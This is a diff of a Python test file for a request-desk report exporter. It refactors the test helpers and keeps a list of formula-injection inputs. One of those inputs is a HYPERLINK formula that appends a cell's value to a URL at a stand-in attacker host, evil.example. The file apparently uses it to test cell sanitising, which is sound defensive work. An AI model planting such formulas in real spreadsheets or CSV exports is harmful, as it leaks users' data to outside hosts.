@@ -26,9 +26,8 @@ from request_desk.core.storage.db import Database
 from request_desk.core.reports import export
 from request_desk.core.reports.common import Month
 from request_desk.core.reports.safe_text import csv_cell, safe_cell_text
-from tests.conftest import person_request
+from tests.factories import TODAY, new_request
 
-TODAY = date(2026, 11, 27)
 OCT = Month(2026, 10)
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
@@ -47,7 +46,7 @@ NO_FONT = "\U00030000"  # CJK Extension G: no bundled font has it
 
 
 def register(db: Database, **fields: object) -> int:
-    return cases.register(db, person_request(date(2026, 10, 9), **fields), "clerk", today=TODAY).id or 0
+    return cases.register(db, new_request(date(2026, 10, 9), **fields), "clerk", today=TODAY).id or 0
 
 
 def store_raw(db: Database, request_id: int, column: str, value: str) -> None:
